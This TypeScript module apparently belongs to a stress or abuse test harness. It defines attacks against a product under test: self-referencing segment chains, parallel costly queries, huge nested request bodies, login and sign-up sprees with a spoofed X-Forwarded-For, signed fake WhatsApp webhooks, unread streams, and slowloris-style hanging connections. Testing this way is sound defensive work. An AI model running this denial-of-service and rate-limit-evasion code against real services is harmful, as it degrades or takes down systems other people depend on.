/** Every kind of attack, ordered by target: content that tenants store and render, requests of strangers, connections. */
import { createHmac } from 'node:crypto'
import { connect } from 'node:net'
import { type Attack, type Attacker, setUp } from './attacker.ts'
import { CONTENT_ATTACKS } from './content-attacks.ts'
import { INBOUND_TEXT, NESTED, USER_AGENT } from './payloads.ts'
import { PROGRAM_ATTACKS } from './program-attacks.ts'

const SEGMENT = '/api/audience/segment'
const GOLD = { kind: 'field', field: 'plan', type: 'text', op: 'is', value: 'gold' }
const all = (...rules: object[]): object => ({ kind: 'group', match: 'all', rules })

/** Segments that each name the next one twice, and edits of the last of them. */
function chain(): Attack {
  let leaf = ''
  return {
    name: 'segments that double',
    async prepare(attacker) {
      leaf = await createSegment(attacker, all(GOLD))
      for (let level = 0, last = leaf; level < 12; level++) {
        const within = { kind: 'segment', op: 'is_member', segment_uuid: last }
        last = (await createSegment(attacker, all(within, within))) || last
      }
    },
    strike: async ({ call }) => {
      const rules = all(...Array<object>(50).fill(GOLD))
      const edited = await call('PUT', `${SEGMENT}?segment_uuid=${leaf}`, { rules })
      return [edited.status, (await call('GET', `${SEGMENT}?per_page=100`)).status]
    },
  }
}

async function createSegment({ call }: Attacker, rules: object): Promise<string> {
  const { data } = await call('POST', SEGMENT, { segment_name: `S ${crypto.randomUUID().slice(0, 8)}`, rules })
  return (data as { segment_uuid?: string } | undefined)?.segment_uuid ?? ''
}

const counts: Attack = {
  name: 'costly counts at once',
  strike: async ({ call }) => {
    const behaviour = {
      kind: 'behaviour',
      event: 'opened',
      campaign_uuid: null,
      when: { op: 'ever' },
      times: { op: 'exactly', n: 7 },
    }
    const rules = { kind: 'group', match: 'any', rules: Array<object>(50).fill(behaviour) }
    const asked = Array.from({ length: 20 }, () => call('POST', `${SEGMENT}/count`, { rules }))
    return (await Promise.all(asked)).map(({ status }) => status)
  },
}

const WHATSAPP = '/api/notifications/whatsapp/configuration'
const APP_SECRET = 'a secret that the tenant knows'

function inbound(): Attack {
  let path = ''
  return {
    name: 'texts to a number',
    async prepare(attacker) {
      const settings = {
        buisness_account_id: '100',
        phone_number_id: '200',
        token: 't',
        app_id: '300',
        app_secret: APP_SECRET,
      }
      await setUp(attacker, WHATSAPP, settings)
      const { data } = await attacker.call('GET', WHATSAPP)
      path = new URL((data as { hook_url: string }).hook_url).pathname
    },
    strike: async ({ product }) => {
      const message = {
        from: '4915112345678',
        id: crypto.randomUUID(),
        timestamp: '1790000000',
        type: 'text',
        text: { body: INBOUND_TEXT },
      }
      const value = { messaging_product: 'whatsapp', metadata: { phone_number_id: '200' }, messages: [message] }
      const body = JSON.stringify({
        object: 'whatsapp_business_account',
        entry: [{ id: '100', changes: [{ field: 'messages', value }] }],
      })
      const digest = createHmac('sha256', APP_SECRET).update(body).digest('hex')
      const headers = { 'Content-Type': 'application/json', 'X-Hub-Signature-256': `sha256=${digest}` }
      const { status } = await fetch(product.url + path, { method: 'POST', headers, body })
      return [status]
    },
  }
}

const siteCheck: Attack = {
  name: 'worker file of a site',
  async prepare(attacker) {
    const { siteUrl } = attacker
    const prompts = { slide_prompt: { accept: { message: 'Yes' }, reject: { message: 'No' } } }
    const site = {
      site_name: 'Shop',
      site_url: siteUrl,
      icon_url: `${siteUrl}/icon.png`,
      webPushPromptPreferences: prompts,
    }
    await setUp(attacker, '/api/notifications/webpush/configuration', site)
  },
  strike: async ({ call }) => [(await call('POST', '/api/notifications/webpush/installation/check', {})).status],
}

const userAgents: Attack = {
  name: 'user agents',
  strike: async ({ product, deliveryToken }) => {
    const { status } = await fetch(`${product.url}/t/o/${deliveryToken}`, { headers: { 'User-Agent': USER_AGENT } })
    return [status]
  },
}

const requests: Attack = {
  name: 'large and deep requests',
  strike: async ({ call, product, token }) => {
    const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }
    const deep = await fetch(`${product.url}${SEGMENT}`, { method: 'POST', headers, body: `{"rules":${NESTED}}` })
    const wide = await call(
      'POST',
      SEGMENT,
      Object.fromEntries(Array.from({ length: 30_000 }, (_, n) => [`field${n}`, n])),
    )
    const far = await call('GET', '/api/audience?page=1000000000&per_page=100')
    const sought = await call('GET', `/api/audience?search=${'%25_'.repeat(2000)}`)
    return [deep.status, ...[wide, far, sought].map(({ status }) => status)]
  },
}

const sprees: Attack = {
  name: 'passwords, sign-ups and invitations',
  strike: async ({ call, product }) => {
    const json = {
      'Content-Type': 'application/json',
      'X-Forwarded-For': `203.0.113.${Math.floor(Math.random() * 255)}`,
    }
    const post = (path: string, body: object) =>
      fetch(product.url + path, { method: 'POST', headers: json, body: JSON.stringify(body) })
    const email = `stranger-${crypto.randomUUID().slice(0, 8)}@example.test`
    const tried = await post('/authP/login', { email: 'bench@example.com', password: 'Wrong-horse-7' })
    const signedUp = await post('/authP/sign-up', { name: 'A Stranger', email, password: 'Correct-horse-7' })
    const users = Array.from({ length: 5 }, (_, n) => ({
      email: `${n}-${email}`,
      role_id: '00000000-0000-7000-8000-000000000003',
    }))
    const invited = await call('POST', '/authP/invite', { users })
    return [tried, signedUp, invited].map(({ status }) => status)
  },
}

function forms(): Attack {
  let path = ''
  return {
    name: 'sign-up forms and tickets',
    async prepare(attacker) {
      const form = { name: 'Harm', consent_text: 'I agree.', fields: [{ name: 'email' }] }
      const { uuid } = (await setUp(attacker, '/api/audience/forms', form)) as { uuid: string }
      path = `/f/${uuid}`
    },
    strike: async ({ call, product }) => {
      const shown = await fetch(product.url + path)
      const fields = Array.from({ length: 190 }, (_, no) => [`field-${no}`, 'x'.repeat(300)] as [string, string])
      const body = new URLSearchParams([['email', `${crypto.randomUUID()}@example.test`], ...fields])
      const sent = await fetch(product.url + path, { method: 'POST', body, redirect: 'manual' })
      const properties = { subject: 'harm@example.test', content: 'x'.repeat(5000) }
      const ticket = await call('POST', '/api/support/ticket', { properties })
      return [shown, sent, ticket].map(({ status }) => status)
    },
  }
}

/** Pages that read many rows, ten at once. */
const reads: Attack = {
  name: 'costly reads at once',
  strike: async ({ call }) => {
    const paths = ['/api/search?q=a', '/api/dashboard/email', '/api/dashboard/engagement', '/api/dashboard/growth']
    const lists = ['/api/logs?search=a', '/api/events', '/api/audience?search=a', '/authP/audit?search=a']
    const asked = [...paths, ...lists].flatMap(path => [call('GET', path), call('GET', path)])
    return (await Promise.all(asked)).map(({ status }) => status)
  },
}

/** Streams that are opened and not read. */
function streams(): Attack {
  let path = ''
  return {
    name: 'live streams',
    async prepare({ call }) {
      const form = new FormData()
      form.append('file', new Blob(['email\nana@example.test\n']), 'list.csv')
      const { data } = await call('POST', '/api/audience/verify', form)
      path = `/api/audience/import/${(data as { corelation_id?: string } | undefined)?.corelation_id ?? ''}/live`
    },
    strike: async ({ product, token }) => {
      const leaving = new AbortController()
      const headers = { Authorization: `Bearer ${token}` }
      const open = () => fetch(product.url + path, { headers, signal: leaving.signal })
      const statuses = (await Promise.all(Array.from({ length: 150 }, open))).map(({ status }) => status)
      leaving.abort()
      return statuses
    },
  }
}

/** Connections that send some bytes to the product and then nothing more. */
function hangingRequests(name: string, head: (url: URL) => string, connections: number): Attack {
  return {
    name,
    strike: async ({ product }) => {
      const url = new URL(product.url)
      const ends = Array.from({ length: connections }, () => hang(url, head(url)))
      return Promise.all(ends)
    },
  }
}

/** How long a connection that says nothing is left open from this side. */
const PATIENCE_MS = 5_000

function hang(url: URL, head: string): Promise<string> {
  return new Promise(resolve => {
    const socket = connect(Number(url.port), url.hostname, () => socket.write(head))
    socket.setTimeout(PATIENCE_MS, () => {
      socket.destroy()
      resolve('left open')
    })
    socket.once('data', data => resolve(/^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1] ?? 'ended'))
    socket.once('close', () => resolve('ended'))
    socket.on('error', () => resolve('ended'))
  })
}

const FORM_HEAD = (url: URL, more: string): string =>
  `POST /authP/login HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 900000\r\n\r\n${more}`

const connections: readonly Attack[] = [
  hangingRequests(
    'forms that never end',
    url =>
      FORM_HEAD(
        url,
        Array.from(
          { length: 900 },
          (_, n) => `--x\r\nContent-Disposition: form-data; name="f${n}"\r\n\r\n${'v'.repeat(900)}\r\n`,
        ).join(''),
      ),
    20,
  ),
  hangingRequests('bodies that never come', url => FORM_HEAD(url, '--x\r\n'), 20),
  hangingRequests('headers that never end', url => `GET /healthz HTTP/1.1\r\nHost: ${url.host}\r\nX-A: `, 20),
]

export const ATTACKS: readonly Attack[] = [
  chain(),
  counts,
  ...CONTENT_ATTACKS,
  ...PROGRAM_ATTACKS,
  inbound(),
  siteCheck,
  userAgents,
  requests,
  sprees,
  forms(),
  reads,
  streams(),
  ...connections,
]
